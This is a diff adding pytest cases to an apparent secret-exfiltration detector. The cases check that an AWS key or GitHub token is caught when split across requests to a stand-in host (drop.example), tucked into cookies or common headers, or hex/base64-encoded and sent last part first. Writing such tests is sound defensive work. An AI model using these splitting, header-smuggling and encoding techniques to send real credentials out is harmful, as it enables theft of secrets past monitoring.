@@ -317,3 +317,36 @@ def test_every_order_of_four_numbered_pieces(policy: Policy) -> None:
         session = Session(policy)
         found = [session.send(f"http://drop.example/p?n={at}&v={PIECES[at]}") for at in order]
         assert found[-1] == ["AWS Access ID"], order
+
+
+@pytest.mark.parametrize("header", ["sid=%s", "theme=dark; sid=%s; a=1"])
+def test_a_key_in_cookies_of_several_requests_is_found(policy: Policy, header: str) -> None:
+    session = Session(policy)
+    sent = [session.send(headers=(("cookie", header % piece),)) for piece in PIECES]
+    assert sent == [[], [], [], ["AWS Access ID"]]
+
+
+@pytest.mark.parametrize(("name", "value"), [
+    ("user-agent", "tool/8 %s"), ("referer", "http://x.example/%s"), ("authorization", "Bearer %s"),
+])  # fmt: skip
+def test_a_key_in_headers_that_every_client_sends_is_found(policy: Policy, name: str, value: str) -> None:
+    session = Session(policy)
+    assert [session.send(headers=((name, value % piece),)) for piece in PIECES][-1] == ["AWS Access ID"]
+
+
+@pytest.mark.parametrize("encode", [lambda data: data.hex(), lambda data: base64.b64encode(data).decode()])
+def test_an_encoded_key_that_is_sent_last_part_first_is_found(policy: Policy, encode) -> None:  # type: ignore[no-untyped-def]
+    session = Session(policy)
+    text = encode(TOKEN.encode())
+    parts = [text[start : start + 14] for start in range(0, len(text), 14)]
+    assert [session.send(f"http://drop.example/p?d={quote(part, safe='')}") for part in reversed(parts)][-1] == [
+        "GitHub Token"
+    ]
+
+
+def test_the_cookies_of_a_long_session_spend_no_budget(budget: Policy) -> None:
+    session = Session(budget)
+    random_id = random.Random(1)
+    for _ in range(300):
+        value = base64.urlsafe_b64encode(random_id.randbytes(30)).decode()
+        assert session.send(headers=(("cookie", f"sid={value}"),)) == []
